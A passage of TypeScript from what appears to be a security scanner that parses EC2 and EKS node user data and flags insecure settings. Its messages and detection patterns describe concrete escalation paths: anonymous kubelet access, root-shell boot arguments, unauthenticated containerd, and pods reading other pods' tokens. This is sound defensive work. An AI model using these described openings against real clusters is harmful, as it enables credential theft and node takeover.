/**
 * What a node's user data opens to people or pods, read by format rather than by spelling.
 *
 * User data reaches the node through cloud-init (Amazon Linux), nodeadm (AL2023 EKS AMIs) or Bottlerocket's settings
 * API. Each format is parsed the way its reader parses it, and each part judged by what it may set:
 * - the envelope: base64, gzip, MIME multi-part (nested, base64 or quoted-printable parts), cloud-init's
 *   `#cloud-config-archive` and `## template: jinja` headers (cloud-init docs, "User-data formats");
 * - nodeadm `NodeConfig` objects (`application/node.eks.aws`, merged in order; amazon-eks-ami, nodeadm API reference):
 *   the kubelet's authentication and authorization, static pod sources, the kubelet's config and CA, containerd's
 *   base runtime spec and runtimes, and every path they name (under a directory pods may write, or the kubelet's and
 *   containerd's directories moved);
 * - Bottlerocket TOML (bottlerocket.dev, settings reference): host containers, bootstrap containers, static pods,
 *   oci-defaults capabilities, and bootstrap commands (the settings their apiclient calls set);
 * - cloud-config (cloud-init module reference): SSH keys and passwords, files written into the node's own configuration
 *   (their content decoded and read), configuration-management agents, and #include (content fetched at boot, which
 *   the pack cannot read);
 * - shell scripts: read best-effort, for the settings named in `scriptOpenings`;
 * - every other text (Windows <powershell>/<script>, EC2Launch YAML, Ignition ...): read the same way, and refused as
 *   unreadable (OTHER_TEXT).
 *
 * Anything the reader cannot parse is refused as unreadable: the node's own reader may accept what this one cannot.
 */
import { gunzipSync } from "zlib";
import { parseAllDocuments } from "yaml";
import { parse as parseToml } from "smol-toml";
import { posix } from "path";
import {
    confinedCapability,
    holdsNodeSecrets,
    insideNodeSecrets,
    nodeReach,
    onHostNetwork,
    podWritableRoot,
    rootPowerSocket,
} from "./podSpec";
import {
    appletWords,
    commandLine,
    executedPrograms,
    INTERPRETERS,
    interpreterName,
    isAssignment,
    joinContinuations,
    launchedCommand,
    programIndex,
    SHELLS,
    CONTENT_KEEPERS,
    X_TERMINALS,
    xDisplayOption,
    shellCommands,
    simpleCommands,
    standardInput,
    systemdRunProperties,
    wrappersOf,
    wrapperShell,
} from "./shell";
import {
    configuredWords,
    copiedDestinations,
    copiedFrom,
    copiedSources,
    keepsWorkingDirectory,
    programOptions,
    loaderEnvironment,
    rpmQueryWord,
    sourceName,
    DEFAULT_ACCOUNTS,
    NodeAccounts,
    NodeJudge,
    rootReadOpenings,
    SUBSTITUTED_MARK,
} from "./rootReads";
import { containerCommand } from "./containers";

export interface NodeOpening {
    who: string;
    what: string;
    /**
     * The same opening on any EC2 instance, a node or not (compute.ts instanceProfileOpenings): who gets the instance
     * profile's role through it, and how. Set only where it bypasses both ways an instance's role is meant to be
     * reached, its own software and its operators' key-based SSH (seed 003): instance metadata relayed or proxied to
     * the network, a shell or an unauthenticated Docker API served there, password logins and host-based trust, user
     * data the pack cannot read. What only pods make dangerous (the kubelet, data directories, containerd) stays
     * node-only.
     */
    anyInstance?: { who: string; what: string };
}

/** Who reaches an opening on the instance's network: beyond loopback, whoever routes to one of its addresses. */
const ON_THE_NETWORK = "whoever reaches the instance on its network";
/**
 * What instance metadata is to any instance: link-local, answering only software on the instance itself (AWS Security
 * Blog, "Add defense in depth against open firewalls, reverse proxies, and SSRF vulnerabilities with enhancements to
 * the EC2 Instance Metadata Service"); a relay terminates the connection on the instance, so IMDSv2's hop limit does
 * not apply to its clients.
 */
const INSTANCE_ROLE_THROUGH_IMDS =
    "whoever connects reads the instance profile's role credentials from instance metadata, which answers only software on the instance itself";

type PartKind =
    | "nodeconfig"
    | "cloud-config"
    | "archive"
    | "script"
    | "include"
    | "template"
    | "unreadable"
    | "bottlerocket"
    | "text";

interface Part {
    kind: PartKind;
    body: string;
}

const SCRIPT_TYPES = new Set([
    "text/x-shellscript",
    "text/x-shellscript-per-boot",
    "text/x-shellscript-per-instance",
    "text/x-shellscript-per-once",
    "text/cloud-boothook",
    "text/part-handler",
    "text/upstart-job",
]);

const ROOT_SSH = "SSH with sudo on the node reads the tokens of the pods there and acts as the node";
const SSH_KEY: NodeOpening = {
    who: "whoever holds the SSH key user data installs",
    what: `user data installs an SSH authorized key (cloud-init ssh_authorized_keys, or a write to authorized_keys): ${ROOT_SSH}`,
};

/**
 * The text of user data: base64 decoded when it is base64, gunzipped when compressed. Throws when unreadable. A field
 * that is base64 by definition but holds plain text (which EC2 would refuse) is read as the text it holds.
 */
function decode(raw: string, base64: boolean): string {
    const compact = raw.replace(/\s+/g, "");
    const looksBase64 = compact.length > 0 && compact.length % 4 === 0 && /^[A-Za-z0-9+/]+={0,2}$/.test(compact);
    let bytes = Buffer.from(raw, "utf8");
    if (looksBase64) {
        const decoded = Buffer.from(compact, "base64");
        // A plain-text value that happens to be valid base64 decodes to bytes that are neither text nor gzip.
        if (base64 || isGzip(decoded) || isText(decoded)) bytes = decoded;
    }
    if (isGzip(bytes)) bytes = gunzipSync(bytes);
    return bytes.toString("utf8");
}

const isGzip = (b: Buffer) => b.length > 2 && b[0] === 0x1f && b[1] === 0x8b;
const isText = (b: Buffer) =>
    b.length > 0 && [...b.subarray(0, 512)].every(c => c === 9 || c === 10 || c === 13 || (c >= 32 && c !== 127));

/**
 * A header block's fields, the FIRST of a repeated field kept: Python's email.message.Message.get (cloud-init) and Go's
 * textproto MIMEHeader.Get (nodeadm) both return the first.
 */
function headersOf(block: string): Map<string, string> {
    const headers = new Map<string, string>();
    let last: string | undefined;
    for (const line of block.split(/\r?\n/)) {
        if (/^[ \t]/.test(line)) {
            if (last) headers.set(last, `${headers.get(last)} ${line.trim()}`);
        } else {
            const m = /^([^\s:]+)\s*:\s*(.*)$/.exec(line);
            if (!m) continue;
            const name = m[1].toLowerCase();
            last = headers.has(name) ? undefined : name;
            if (last) headers.set(last, m[2].trim());
        }
    }
    return headers;
}

/**
 * uudecode (Python's email.message get_payload(decode=True) for x-uuencode, uuencode, uue and x-uue): the lines
 * between `begin MODE NAME` and `end`, each led by its length character.
 */
function decodeUuencode(s: string): string {
    const lines = s.split(/\r?\n/);
    const begin = lines.findIndex(l => /^begin\s+[0-7]+\s/.test(l));
    const bytes: number[] = [];
    for (const line of lines.slice(begin + 1)) {
        if (line.trim() === "end") break;
        const n = (line.charCodeAt(0) - 32) & 63;
        const out: number[] = [];
        for (let i = 1; out.length < n && i + 3 < line.length + 3; i += 4) {
            const c = [0, 1, 2, 3].map(k => ((line.charCodeAt(i + k) || 32) - 32) & 63);
            out.push((c[0] << 2) | (c[1] >> 4), ((c[1] & 15) << 4) | (c[2] >> 2), ((c[2] & 3) << 6) | c[3]);
        }
        bytes.push(...out.slice(0, n));
    }
    return Buffer.from(bytes).toString("utf8");
}

function decodeQuotedPrintable(s: string): string {
    return Buffer.from(
        s.replace(/=\r?\n/g, "").replace(/=([0-9A-Fa-f]{2})/g, (_, h: string) => String.fromCharCode(parseInt(h, 16))),
        "latin1",
    ).toString("utf8");
}

/**
 * A header line as Python's email feedparser reads one (headerRE: a field name of printable characters but the colon,
 * then a colon; or a continuation led by a space or tab).
 */
const isMimeHeader = (line: string) => /^([\x21-\x39\x3b-\x7e]*:|[ \t])/.test(line);

/**
 * A MIME entity's header lines and its body. Python's feedparser (cloud-init) ends the headers at the first blank line,
 * or at the first line that is not a header, which then starts the body (MissingHeaderBodySeparatorDefect).
 */
function splitEntity(text: string): { headerLines: string[]; body: string } {
    const lines = text.split(/(?<=\n)/);
    const headerLines: string[] = [];
    let i = 0;
    for (; i < lines.length; i++) {
        const line = lines[i].replace(/\r?\n$/, "");
        if (line === "") {
            i++;
            break;
        }
        if (!isMimeHeader(line)) break;
        headerLines.push(line);
    }
    return { headerLines, body: lines.slice(i).join("") };
}

/**
 * A base64 transfer-encoded body as Python's email package decodes it (Message.get_payload(decode=True):
 * binascii.a2b_base64 dropping characters outside the alphabet, missing `=` padding added by _encoded_words.decode_b);
 * Node's decoder is as lenient. Gunzipped when compressed, as decode() does.
 */
function decodeBase64Part(body: string): string {
    const bytes = Buffer.from(body.replace(/[^A-Za-z0-9+/]/g, ""), "base64");
    return (isGzip(bytes) ? gunzipSync(bytes) : bytes).toString("utf8");
}

/**
 * A MIME entity's leaf parts, each with its media type and decoded body, or undefined when the text is not MIME.
 * `inMultipart`: the text is a part of a multipart body, where a part without headers is text/plain (RFC 2046 5.1).
 */
function mimeParts(text: string, inMultipart = false): { type: string; body: string }[] | undefined {
    const { headerLines, body: rawBody } = splitEntity(text);
    // cloud-init reads user data as MIME when "mime-version:" appears in its first 4096 bytes (cloudinit/user_data.py
    // convert_string), then lets Python's email parser take every header; a part of a multipart body is parsed so too.
    // nodeadm reads any multipart Content-Type, MIME-Version or not (amazon-eks-ami nodeadm configprovider/mime.go
    // getMultipartReader: net/mail ReadMessage).
    const isEntity =
        headerLines.length > 0 &&
        (inMultipart ||
            /mime-version\s*:/i.test(text.slice(0, 4096)) ||
            headerLines.some(l => /^content-type\s*:\s*multipart\//i.test(l)));
    if (!isEntity) return inMultipart ? [{ type: "text/plain", body: text }] : undefined;
    const headers = headersOf(headerLines.join("\n"));
    const type = headers.get("content-type") ?? (inMultipart ? "text/plain" : undefined);
    if (!type) return undefined;
    let body = rawBody;
    const mediaType = type.split(";")[0].trim().toLowerCase();
    // Python's parser reads a multipart or message entity's body as parts whatever its Content-Transfer-Encoding (RFC
    // 2045 6.4 allows only 7bit, 8bit and binary there), and cloud-init walks into an attached message
    // (message/rfc822: Message.walk(); cloudinit/user_data.py skips only multipart containers).
    if (mediaType.startsWith("message/") && mediaType !== "message/delivery-status") return mimeParts(body, true);
    if (!mediaType.startsWith("multipart/")) {
        const encoding = (headers.get("content-transfer-encoding") ?? "").toLowerCase();
        if (encoding === "base64") body = decodeBase64Part(body);
        else if (encoding === "quoted-printable") body = decodeQuotedPrintable(body);
        else if (/^(x-)?(uuencode|uue)$/.test(encoding)) body = decodeUuencode(body);
        return [{ type: mediaType, body }];
    }
    const boundary = /boundary\s*=\s*(?:"([^"]+)"|([^;\s]+))/i.exec(type);
    if (!boundary) throw new Error(`a ${mediaType} message without a boundary`);
    const delimiter = (boundary[1] ?? boundary[2]).replace(/[.*+?^${}()|[\]\\/]/g, "\\$&");
    // split() with a capture group: [preamble, closing?, part, closing?, part, ...]; "--" marks the closing delimiter.
    const chunks = body.split(new RegExp(`^--${delimiter}(--)?[ \\t]*\\r?$`, "m"));
    const out: { type: string; body: string }[] = [];
    for (let i = 1; i < chunks.length; i += 2) {
        if (chunks[i] === "--") break;
        const part = (chunks[i + 1] ?? "").replace(/^\r?\n/, "");
        if (part.trim() !== "") out.push(...mimeParts(part, true)!);
    }
    return out;
}

/**
 * Python's str.lstrip(): white space is what str.isspace() says, which is JavaScript's \s plus the information
 * separators U+001C..U+001F and NEL (U+0085).
 */
// eslint-disable-next-line no-control-regex -- the information separators are white space to Python
const pythonLstrip = (text: string) => text.replace(/^[\s\x1c-\x1f\x85]+/, "");

/** A part's kind by its first line, as cloud-init sniffs text/plain parts and plain user data. */
function sniff(body: string): { kind: PartKind; body: string } {
    // cloud-init types by the text's start after lstrip() (cloudinit/handlers/__init__.py type_from_starts_with).
    const text = pythonLstrip(body.replace(/^\uFEFF/, ""));
    const first = text.split(/\r?\n/, 1)[0].trim().toLowerCase();
    // cloud-init renders a `## template: jinja` part before handling it (cloud-init docs, "Jinja template";
    // handlers/jinja_template.py). Plain instance-data variables (`{{ v1.instance_id }}`) are values of the
    // instance's metadata, read as an opaque word; any other expression, filter, statement or comment computes text the
    // pack cannot know, so the part is unreadable.
    if (/^##\s*template:\s*jinja/.test(first)) {
        const template = text.slice(text.indexOf("\n") + 1);
        const plain = template.replace(
            /\{\{-?\s*[A-Za-z_][\w]*(\.[A-Za-z_][\w-]*|\[\s*'[^'{}]*'\s*\])*\s*-?\}\}/g,
            "jinja-value",
        );
        if (/\{\{|\{%|\{#/.test(plain)) return { kind: "template", body: template };
        return sniff(plain);
    }
    if (first.startsWith("#cloud-config-archive")) return { kind: "archive", body: text };
    if (first.startsWith("#cloud-config-jsonp")) return jsonPatch(text);
    if (first.startsWith("#cloud-config")) return { kind: "cloud-config", body: text };
    if (first.startsWith("#include")) return { kind: "include", body: text };
    if (first.startsWith("#!") || first.startsWith("#cloud-boothook") || first.startsWith("#part-handler"))
        return { kind: "script", body: text };
    // nodeadm reads a bare NodeConfig (YAML or JSON) as well as a MIME part.
    if (/NodeConfig/.test(text) && /node\.eks\.aws/.test(text)) return { kind: "nodeconfig", body: text };
    // Bottlerocket user data is TOML rooted at `settings`: a table header, a dotted key or an inline table.
    if (/^\s*\[\s*"?settings"?\s*[.\]]/m.test(text) || /^\s*"?settings"?\s*[.=]/m.test(text))
        return { kind: "bottlerocket", body: text };
    return { kind: "text", body: text };
}

/**
 * A cloud-config JSON patch (text/cloud-config-jsonp, `#cloud-config-jsonp`: RFC 6902 applied to the merged
 * cloud-config, cloudinit/handlers/cloud_config.py) judged as the cloud-config its add/replace operations write: `/key`
 * sets a key, `/key/-` or `/key/N` adds to its list, deeper paths nest. remove and test write nothing; move and copy
 * carry content the pack cannot follow, so such a patch is unreadable.
 */
function jsonPatch(body: string): Part {
    // cloud-init strips leading white space and a `#cloud-config-jsonp` line whatever the part's type
    // (cloudinit/handlers/cloud_config.py _merge_patch: lstrip, then strip_prefix_suffix(prefix=JSONP_PREFIX)).
    const patch = pythonLstrip(body).replace(/^#cloud-config-jsonp/, "");
    let ops: unknown;
    try {
        ops = JSON.parse(patch);
    } catch {
        return { kind: "unreadable", body: "a cloud-config JSON patch that does not parse" };
    }
    if (!Array.isArray(ops)) return { kind: "unreadable", body: "a cloud-config JSON patch that is not a list" };
    const config: Record<string, unknown> = {};
    for (const op of ops as Record<string, unknown>[]) {
        const verb = String(op?.op ?? "");
        if (verb === "remove" || verb === "test") continue;
        if (verb !== "add" && verb !== "replace")
            return { kind: "unreadable", body: `a cloud-config JSON patch with a ${verb || "malformed"} operation` };
        const path = String(op.path ?? "");
        // The path "" is the whole document (RFC 6901): python-jsonpatch's add and replace put the value in place of
        // the merged cloud-config.
        if (path === "") {
            if (!op.value || typeof op.value !== "object" || Array.isArray(op.value))
                return {
                    kind: "unreadable",
                    body: "a cloud-config JSON patch replacing the whole document with a non-mapping",
                };
            for (const key of Object.keys(config)) delete config[key];
            Object.assign(config, op.value);
            continue;
        }
        const keys = path
            .split("/")
            .slice(1)
            .map(k => k.replace(/~1/g, "/").replace(/~0/g, "~"));
        if (keys[0] === "") continue;
        let value: unknown = op.value;
        for (const key of keys.slice(1).reverse()) value = /^(-|\d+)$/.test(key) ? [value] : { [key]: value };
        const top = keys[0];
        config[top] =
            Array.isArray(value) && Array.isArray(config[top]) ? [...(config[top] as unknown[]), ...value] : value;
    }
    return { kind: "cloud-config", body: JSON.stringify(config) };
}

/** A MIME part (or a #cloud-config-archive entry, attached as one) of media `type`, as cloud-init and nodeadm read it. */
function partOfType(type: string, body: string): Part {
    // nodeadm decodes a NodeConfig part that is base64 and gunzips one that is compressed, with or without a
    // Content-Transfer-Encoding header (amazon-eks-ami nodeadm/internal/configprovider: mime.go, encoding.go).
    if (type === "application/node.eks.aws") return { kind: "nodeconfig", body: decode(body, false) };
    // cloud-init re-types text/x-shellscript (and text/plain) parts by their start (cloudinit/user_data.py
    // _process_msg: `ctype_orig in TYPE_NEEDED + ["text/x-shellscript"]`).
    if (type === "text/x-shellscript") {
        const typed = sniff(body);
        return typed.kind === "text" ? { kind: "script", body } : typed;
    }
    if (SCRIPT_TYPES.has(type)) return { kind: "script", body };
    if (type === "text/cloud-config-jsonp") return jsonPatch(body);
    if (type === "text/x-include-url" || type === "text/x-include-once-url") return { kind: "include", body };
    if (type === "text/cloud-config") return { kind: "cloud-config", body };
    if (type === "text/cloud-config-archive") return { kind: "archive", body };
    return sniff(body);
}

function partsOf(text: string): Part[] {
    const mime = mimeParts(text);
    return mime ? mime.map(({ type, body }) => partOfType(type, body)) : [sniff(text)];
}

/**
 * A #cloud-config-archive's entries as the parts cloud-init attaches (cloudinit/user_data.py _explode_archive): a
 * string entry is its content; an entry without a type is typed by its start, text/cloud-config by default
 * (ARCHIVE_UNDEF_TYPE); entries that are neither strings nor mappings are skipped.
 */
function archiveParts(body: string): Part[] {
    return yamlDocs(body, "a cloud-config-archive").flatMap(doc =>
        list(doc).flatMap((entry): Part[] => {
            const e = typeof entry === "string" ? { content: entry } : entry;
            if (!e || typeof e !== "object" || Array.isArray(e)) return [];
            const { type, content = "" } = e as Record<string, unknown>;
            const text = String(content);
            if (type) return [partOfType(String(type).toLowerCase(), text)];
            const typed = sniff(text);
            return [typed.kind === "text" ? { kind: "cloud-config", body: text } : typed];
        }),
    );
}

function yamlDocs(body: string, what: string): unknown[] {
    // cloud-init (PyYAML) and nodeadm (sigs.k8s.io/yaml on go-yaml v2) read YAML 1.1: `yes`, `on` are booleans.
    const docs = parseAllDocuments(body, { version: "1.1", uniqueKeys: true });
    const list = Array.isArray(docs) ? docs : [docs];
    const broken = list.find(d => d.errors.length > 0);
    if (broken) throw new Error(`${what} does not parse (${broken.errors[0].message.split("\n")[0]})`);
    return list.map(d => d.toJS());
}

const isOn = (v: unknown) => v !== undefined && v !== null && v !== false && String(v).toLowerCase() !== "false";
const obj = (v: unknown): Record<string, any> => (v && typeof v === "object" && !Array.isArray(v) ? (v as any) : {});
const list = (v: unknown): unknown[] => (Array.isArray(v) ? v : v === undefined || v === null ? [] : [v]);

/** The kubelet flags that decide who may call it, or where it reads its configuration and static pods from. */
function kubeletFlagOpenings(flags: readonly string[], where: string): NodeOpening[] {
    const out: NodeOpening[] = [];
    for (const flag of flags) {
        const m = /^--?([a-z0-9_-]+)(?:[= ](.*))?$/i.exec(flag.trim());
        if (!m) continue;
        // The kubelet's flag set normalizes `_` to `-` (component-base cliflag.WordSepNormalizeFunc): --root_dir is --root-dir.
        const [name, value] = [m[1].toLowerCase().replace(/_/g, "-"), (m[2] ?? "").trim().replace(/^["']|["']$/g, "")];
        if (name === "anonymous-auth" && value.toLowerCase() !== "false") out.push(kubeletOpen(where, flag));
        else if (name === "authorization-mode" && value !== "Webhook") out.push(kubeletOpen(where, flag));
        else if (name === "read-only-port" && value !== "0") out.push(readOnlyPort(where, flag));
        else if (name === "root-dir")
            out.push(
                ...relocated(
                    where,
                    `the kubelet flag ${flag}`,
                    value,
                    KUBELET_ROOT,
                    "the kubelet's directory (every pod's token)",
                ),
            );
        else if (["pod-manifest-path", "manifest-url", "manifest-url-header"].includes(name))
            out.push(staticPods(where, flag));
        else if (["config", "config-dir", "kubeconfig", "client-ca-file", "bootstrap-kubeconfig"].includes(name))
            out.push({
                who: "whoever writes the file it names",
                what: `${where} sets the kubelet flag ${flag}: the kubelet then takes who may call it, or its credentials, from a file the pack cannot read`,
            });
    }
    return out;
}

const kubeletOpen = (where: string, setting: string): NodeOpening => ({
    who: "anyone who reaches the kubelet on port 10250",
    what: `${where} sets ${setting}: the kubelet API (port 10250: the node's pods, exec into them) stops checking who calls it, or what they may do (CIS Kubernetes 4.2.1, 4.2.2; kubelet authentication/authorization)`,
});

/**
 * The kubelet's read-only port (KubeletConfiguration readOnlyPort, --read-only-port: "serve on with no
 * authentication/authorization ... Default: 0 (disabled)"; CIS Kubernetes 4.2.4): /pods gives every pod spec, env
 * values included, to anyone reaching the node.
 */
const readOnlyPort = (where: string, setting: string): NodeOpening => ({
    who: "anyone who reaches the node's kubelet read-only port",
    what: `${where} sets ${setting}: the kubelet's read-only port serves /pods (every pod spec and its env values), /spec and /stats without authentication (KubeletConfiguration readOnlyPort must stay 0, CIS Kubernetes 4.2.4)`,
});

const staticPods = (where: string, setting: string): NodeOpening => ({
    who: "whoever writes the static pod source",
    what: `${where} sets ${setting}: the kubelet runs static pods from there, outside admission and outside the pod specs the pack judges`,
});

/**
 * The cluster CA a node is given: nodeadm (spec.cluster.certificateAuthority) and Bottlerocket
 * (settings.kubernetes.cluster-certificate) write it to /etc/kubernetes/pki/ca.crt, which is also the kubelet's client
 * CA (nodeadm kubelet config; bottlerocket-core-kit kubelet-config): a second certificate in it signs clients of the
 * kubelet (system:masters included).
 */
function clusterCABundle(ca: unknown, where: string, setting: string): NodeOpening[] {
    if (typeof ca !== "string") return [];
    const count = (t: string) => (t.match(/-----BEGIN CERTIFICATE-----/g) ?? []).length;
    // base64 of PEM as both take it, or PEM as written.
    if (Math.max(count(Buffer.from(ca, "base64").toString("utf8")), count(ca)) <= 1) return [];
    return [
        {
            who: "whoever holds a certificate of the other CAs",
            what: `${where} sets ${setting} to a bundle of several CAs: the node writes it to /etc/kubernetes/pki/ca.crt, also the kubelet's client CA, so certificates any of them signs call the kubelet (exec into every pod on the node); give the cluster's own CA only`,
        },
    ];
}

/**
 * Kernel and init command-line arguments that open a root shell or replace init (systemd-debug-generator(8)
 * systemd.debug_shell: "a root shell ... on tty9" or the given console; dracut.cmdline(7) rd.shell, rd.break;
 * kernel-parameters init=, rdinit=; systemd.unit=/emergency/rescue/single boot into a root shell on the console).
 */
function kernelArgsOpenings(args: readonly string[], where: string): NodeOpening[] {
    const open = args.find(a =>
        /^(systemd\.debug[-_]shell(=.*)?|rd\.shell(=(1|yes|true))?|rd\.break(=.*)?|rd\.emergency=.*|init=.*|rdinit=.*|systemd\.unit=.*|emergency|rescue|single|-s|s|S|1)$/.test(
            a,
        ),
    );
    return open
        ? [
              {
                  who: "whoever opens the node's console (EC2 serial console)",
                  what: `${where} sets the boot argument ${open}: the node boots into a root shell on its console, or runs another init; ${ROOT_SSH}`,
              },
          ]
        : [];
}

function nodeConfigOpenings(body: string): NodeOpening[] {
    const out: NodeOpening[] = [];
    for (const doc of yamlDocs(body, "a nodeadm NodeConfig")) {
        const spec = obj(obj(doc).spec);
        const kubelet = obj(spec.kubelet);
        const config = obj(kubelet.config);
        const where = "nodeadm NodeConfig";
        const auth = obj(config.authentication);
        if (isOn(obj(auth.anonymous).enabled))
            out.push(kubeletOpen(where, "kubelet.config.authentication.anonymous.enabled"));
        // nodeadm writes cluster.certificateAuthority to /etc/kubernetes/pki/ca.crt, the kubelet's client CA too: a
        // second certificate in it signs clients of the kubelet (system:masters included).
        out.push(...clusterCABundle(obj(spec.cluster).certificateAuthority, where, "cluster.certificateAuthority"));
        const clientCA = obj(auth.x509).clientCAFile;
        // nodeadm writes the cluster CA here itself (amazon-eks-ami, nodeadm kubelet defaults).
        if (clientCA !== undefined && clientCA !== "/etc/kubernetes/pki/ca.crt")
            out.push({
                who: "whoever holds a certificate of the CA it names",
                what: `${where} sets the kubelet's client CA to ${String(clientCA)}: certificates that CA signs call the kubelet`,
            });
        const mode = obj(config.authorization).mode;
        if (mode !== undefined && mode !== "Webhook")
            out.push(kubeletOpen(where, `kubelet.config.authorization.mode ${String(mode)}`));
        if (config.readOnlyPort !== undefined && Number(config.readOnlyPort) !== 0)
            out.push(readOnlyPort(where, `kubelet.config.readOnlyPort ${String(config.readOnlyPort)}`));
        for (const key of ["staticPodPath", "staticPodURL", "staticPodURLHeader"])
            if (config[key] !== undefined) out.push(staticPods(where, `kubelet.config.${key}`));
        // nodeadm joins the entries with spaces into NODEADM_KUBELET_ARGS and kubelet.service runs `$NODEADM_KUBELET_ARGS`,
        // which systemd splits at whitespace (amazon-eks-ami nodeadm kubelet environment.go; systemd.service(5),
        // "Command lines"): one entry may hold several flags.
        const flags = list(kubelet.flags).flatMap(f => String(f).trim().split(/\s+/).filter(Boolean));
        out.push(...kubeletFlagOpenings(flags, where), ...kubeletFlagOpenings(joinedFlags(flags), where));
        out.push(...writablePathOpenings(stringsIn(config, "kubelet.config"), where));
        out.push(...writablePathOpenings(kubeletFlagPaths(joinedFlags(flags)), where));
        const localStorage = obj(obj(spec.instance).localStorage);
        if (localStorage.mountPath !== undefined) {
            const mountPath = String(localStorage.mountPath);
            out.push(...writablePathOpenings([{ at: "instance.localStorage.mountPath", value: mountPath }], where));
            out.push(
                ...relocated(
                    where,
                    "instance.localStorage.mountPath",
                    mountPath,
                    LOCAL_DISKS,
                    "the kubelet's and containerd's directories (RAID0 bind-mounts them from <mountPath>/0)",
                ),
            );
        }
        const containerd = obj(spec.containerd);
        // Only process.rlimits is accepted: nodeadm merges the spec over its default (amazon-eks-ami doc/examples.md,
        // "Modifying container RLIMITs"; writeBaseRuntimeSpec), and resource limits grant nothing.
        const brs = containerd.baseRuntimeSpec;
        const rlimitsOnly =
            brs !== null &&
            typeof brs === "object" &&
            Object.keys(brs).length === 1 &&
            Object.keys(obj(obj(brs).process)).length === 1 &&
            Array.isArray(obj(obj(brs).process).rlimits);
        if (brs !== undefined && !rlimitsOnly)
            out.push({
                who: "every pod on the node",
                what: `${where} sets containerd.baseRuntimeSpec: the OCI spec every container starts from (capabilities, mounts, namespaces), outside the pod specs the pack judges`,
            });
        if (containerd.config !== undefined) out.push(...containerdOpenings(String(containerd.config), where));
    }
    return out;
}

/**
 * Where the node keeps what podSpec.ts's NODE_SECRETS guards (pods' tokens, the runtime's state) by default: nodeadm's
 * localStorage mountPath ("Defaults to /mnt/k8s-disks/", nodeadm API reference, LocalStorageOptions; setup-local-disks
 * bind-mounts /var/lib/kubelet from <mountPath>/0/kubelet with RAID0), the kubelet's --root-dir (kubelet reference,
 * default /var/lib/kubelet) and containerd's root and state (containerd docs/ops.md). Moved anywhere else, the pod judge
 * no longer knows the place holds every pod's token: a pod mounting it, even read-only, reads them.
 */
const LOCAL_DISKS = "/mnt/k8s-disks";
const KUBELET_ROOT = "/var/lib/kubelet";
const CONTAINERD_DIRS: Record<string, string> = { root: "/var/lib/containerd", state: "/run/containerd" };

function relocated(where: string, setting: string, value: string, byDefault: string, holds: string): NodeOpening[] {
    if (value.trim() === "" || posix.resolve("/", value.trim()) === byDefault) return [];
    return [
        {
            who: "every pod that may mount the new place",
            what: `${where} sets ${setting} to ${value}, moving ${holds} out of ${byDefault}, the node path the pack keeps pods from: a pod mounting the new place reads every pod's token`,
        },
    ];
}

/** Every string under `value`, with the setting it sits at. */
function stringsIn(value: unknown, at: string): { at: string; value: string }[] {
    if (typeof value === "string") return [{ at, value }];
    if (Array.isArray(value)) return value.flatMap((x, i) => stringsIn(x, `${at}[${i}]`));
    if (value && typeof value === "object")
        return Object.entries(value).flatMap(([k, x]) => stringsIn(x, at ? `${at}.${k}` : k));
    return [];
}

/**
 * Kubelet flags with a value given as the next argument (`--root-dir`, `/srv/kubelet`: pflag takes both spellings)
 * joined as `--name=value`. Read besides the flags as written: a boolean flag does not take the next argument.
 */
function joinedFlags(flags: readonly string[]): string[] {
    const out: string[] = [];
    for (let i = 0; i < flags.length; i++) {
        const flag = flags[i].trim();
        const next = flags[i + 1]?.trim();
        if (/^--?[a-z0-9_-]+$/i.test(flag) && next !== undefined && !next.startsWith("-")) {
            out.push(`${flag}=${next}`);
            i++;
        } else out.push(flag);
    }
    return out;
}

/** The path-valued pieces of kubelet flags: `--flag=value` (comma-separated lists split), and bare arguments. */
function kubeletFlagPaths(flags: readonly string[]): { at: string; value: string }[] {
    return flags.flatMap(flag => {
        const m = /^--?([a-z0-9_-]+)(?:[= ](.*))?$/i.exec(flag.trim());
        const [at, value] = m ? [`kubelet flag --${m[1]}`, m[2] ?? ""] : ["a kubelet argument", flag];
        return value.split(",").map(v => ({ at, value: v.trim().replace(/^["']|["']$/g, "") }));
    });
}

/**
 * Node settings naming a path where pods may write (podSpec.ts podWritableRoot: the data directories, judged as an
 * allowlist: any path-valued setting, whatever it is for). The node reads or runs from there as root: the kubelet's
 * directory (--root-dir) holds every pod's token, containerd runs the CNI plugins from its cni bin_dir (containerd
 * docs/cri/config.md), the kubelet runs FlexVolume drivers from volumePluginDir (Kubernetes "FlexVolume").
 */
function writablePathOpenings(settings: { at: string; value: string }[], where: string): NodeOpening[] {
    return settings.flatMap(({ at, value }) => {
        const path = value.trim().replace(/^unix:\/\//, "");
        const root = path.startsWith("/") ? podWritableRoot(path) : undefined;
        return root
            ? [
                  {
                      who: `every pod that may write ${root}`,
                      what: `${where} sets ${at} to ${value}, under ${root}, a node directory the pack lets pods write: what the node keeps or runs there (the kubelet's pod tokens, plugins and binaries run as root) is theirs to read or replace`,
                  },
              ]
            : [];
    });
}

/** containerd settings that change how every pod, or pods of a runtime class, start (containerd CRI config docs). */
const CONTAINERD_KEYS = new Set([
    "default_runtime_name",
    "default_runtime",
    "base_runtime_spec",
    "runtimes",
    "BinaryName",
    "runtime_path",
    "privileged_without_host_devices",
]);

function containerdOpenings(toml: string, where: string): NodeOpening[] {
    let parsed: unknown;
    try {
        parsed = parseToml(toml);
    } catch (e) {
        return [unreadable(`${where} containerd.config`, (e as Error).message)];
    }
    const found = new Set<string>();
    const walk = (v: unknown) => {
        for (const [k, x] of Object.entries(obj(v))) {
            if (CONTAINERD_KEYS.has(k)) found.add(k);
            walk(x);
        }
    };
    walk(parsed);
    const paths = writablePathOpenings(stringsIn(parsed, ""), `${where} containerd.config`);
    // containerd's API on TCP (config.toml [grpc] tcp_address; docs/cri/config.md: "a TCP server is enabled for
    // containerd if TCPAddress is set") answers anyone reaching the port (start privileged containers, exec) unless
    // it requires client certificates (tcp_tls_ca).
    const grpc = obj(obj(parsed).grpc);
    if (String(grpc.tcp_address ?? "").trim() !== "" && String(grpc.tcp_tls_ca ?? "").trim() === "")
        paths.push({
            who: "anyone who reaches the node's containerd TCP port",
            what: `${where} containerd.config serves containerd's API on tcp_address ${String(grpc.tcp_address)} without client certificates (tcp_tls_ca): anyone reaching it starts privileged containers on the node; keep containerd on its unix socket`,
        });
    for (const [key, byDefault] of Object.entries(CONTAINERD_DIRS))
        if (typeof obj(parsed)[key] === "string")
            paths.push(
                ...relocated(where, `containerd.config ${key}`, obj(parsed)[key], byDefault, "containerd's directory"),
            );
    return found.size === 0
        ? paths
        : [
              ...paths,
              {
                  who: "every pod on the node",
                  what: `${where} containerd.config sets ${[...found].join(", ")}: how pods start, outside the pod specs the pack judges`,
              },
